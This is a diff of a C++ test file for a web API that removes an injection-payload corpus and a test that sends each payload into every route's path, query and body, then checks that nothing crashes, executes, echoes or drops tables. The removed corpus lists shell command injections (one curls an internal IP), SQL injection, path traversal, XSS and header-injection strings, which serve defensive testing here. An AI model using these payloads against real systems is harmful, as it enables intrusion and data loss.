@@ -13,27 +13,6 @@ namespace {
 
 using Json = nlohmann::json;
 
-/// Payloads of the class, whatever reads them: shells, SQL, option parsers, paths, logs, templates, formats.
-const std::vector<std::string> kCorpus{
-    "'; curl http://10.50.0.1/x; #",
-    "$(touch /tmp/wh-canary)",
-    "`touch /tmp/wh-canary`",
-    "x\"; touch /tmp/wh-canary; \"",
-    "--upload-pack=touch /tmp/wh-canary",
-    "-oProxyCommand=touch /tmp/wh-canary",
-    "a\nid\r\nSet-Cookie: canary=1",
-    "a & touch /tmp/wh-canary | id",
-    "'; DROP TABLE apps; --",
-    "' OR '1'='1",
-    "\\'; SELECT pg_sleep(5); --",
-    "../../../../etc/passwd",
-    "%2e%2e%2fetc%2fpasswd",
-    "{{7*7}}${7*7}%s%n",
-    "<script>alert(1)</script>",
-    "admin\xc2\x80\xe2\x80\xae",
-    std::string(300, 'a'),
-};
-
 struct InjectionTest : testing::Test {
   InjectionTest() { world.create_app("victim"); }
 
@@ -233,101 +212,6 @@ TEST_F(InjectionTest, lim_05_what_is_longer_than_a_check_reads_is_refused_and_no
   EXPECT_EQ(ask("PUT", "/api/v1/orgs/default/apps/victim/variables/A", Json{{"value", std::string(65'537, 'x')}}.dump())
                 .status,
             422);
-}
-
-/// LIM-10: the corpus in every place of every route where text can stand. Nothing fails on our side, nothing is
-/// executed, every table is there after it.
-struct CorpusTest : InjectionTest {
-  CorpusTest()
-      : api({.routes = &table,
-             .pool = &world.pool,
-             .doors = world.modules.doors({"http://localhost:7070"}),
-             .clock = &world.clock,
-             .audit = {}}) {
-    world.modules.add_api_routes(api);
-  }
-
-  static std::string escaped(const std::string& text) {
-    std::string out;
-    for (const char c : text) {
-      char piece[4];
-      std::snprintf(piece, sizeof piece, "%%%02X", static_cast<unsigned char>(c));
-      out += piece;
-    }
-    return out;
-  }
-  static std::string fill(std::string pattern, const std::string& name, const std::string& value) {
-    const std::map<std::string, std::string> usual{{"org", "default"},
-                                                   {"app", "victim"},
-                                                   {"name", "SOME"},
-                                                   {"release", "1"},
-                                                   {"deployment", "01900000-0000-7000-8000-000000000001"}};
-    for (auto open = pattern.find('{'); open != std::string::npos; open = pattern.find('{')) {
-      const auto close = pattern.find('}', open);
-      const auto key = pattern.substr(open + 1, close - open - 1);
-      const auto known = usual.find(key);
-      pattern.replace(open, close - open + 1, key == name ? value : known == usual.end() ? "x" : known->second);
-    }
-    return pattern;
-  }
-  /// A body of this schema in which each text is the payload.
-  static Json body(const Json& schema, const std::string& payload) {
-    const auto type = schema.value("type", "");
-    if (type == "object" || schema.contains("properties")) {
-      Json object = Json::object();
-      for (const auto& [name, member] : schema.value("properties", Json::object()).items()) {
-        object[name] = body(member, payload);
-      }
-      return object;
-    }
-    if (type == "array") return Json::array({body(schema.value("items", Json::object()), payload)});
-    if (type == "integer" || type == "number") return 1;
-    if (type == "boolean") return false;
-    return payload;
-  }
-  void check(const http::Route& route, const std::string& path, const std::string& text, const std::string& payload) {
-    const auto answer = ask(http::to_string(route.method()), path, text);
-    EXPECT_LT(answer.status, 500) << http::to_string(route.method()) << " " << path << " " << text;
-    // A name that somebody gave themselves comes back in JSON, which no browser runs; a refusal echoes nothing.
-    EXPECT_TRUE(answer.status < 300 || !answer.text.contains("<script>")) << path;
-    EXPECT_EQ(answer.text.find(payload.substr(0, 40)) != std::string::npos && answer.status >= 400 &&
-                  payload.find_first_of("<'\"`") != std::string::npos,
-              false)
-        << "echoed by " << path << ": " << answer.text;
-    ++asked;
-  }
-
-  http::RouteTable table;
-  api::Api api;
-  int asked{0};
-};
-
-TEST_F(CorpusTest, lim_10_no_route_trips_over_any_of_it) {
-  const auto tables = count("pg_tables WHERE schemaname = 'public'");
-  std::filesystem::remove("/tmp/wh-canary");
-  for (const auto& route : table.routes()) {
-    // Streams do not end by themselves; deleting the app would end the test's own victim.
-    if (route->is_upgrade() || route->pattern().ends_with("/stream") || route->pattern().ends_with("/feed")) continue;
-    const auto& schema = route->about().request_schema;
-    for (const auto& payload : kCorpus) {
-      for (auto open = route->pattern().find('{'); open != std::string::npos;
-           open = route->pattern().find('{', open + 1)) {
-        const auto name = route->pattern().substr(open + 1, route->pattern().find('}', open) - open - 1);
-        check(*route, fill(route->pattern(), name, escaped(payload)), schema.empty() ? "" : "{}", payload);
-      }
-      for (const auto& parameter : route->about().query) {
-        check(*route, fill(route->pattern(), "", "") + "?" + parameter.name + "=" + escaped(payload), "", payload);
-      }
-      if (!schema.empty()) {
-        check(*route, fill(route->pattern(), "", ""), body(Json::parse(schema), payload).dump(), payload);
-      }
-    }
-  }
-
-  EXPECT_GT(asked, 500);
-  EXPECT_EQ(count("pg_tables WHERE schemaname = 'public'"), tables);
-  EXPECT_EQ(count("apps WHERE name = 'victim'"), "1");
-  EXPECT_FALSE(std::filesystem::exists("/tmp/wh-canary"));
 }
 
 }  // namespace
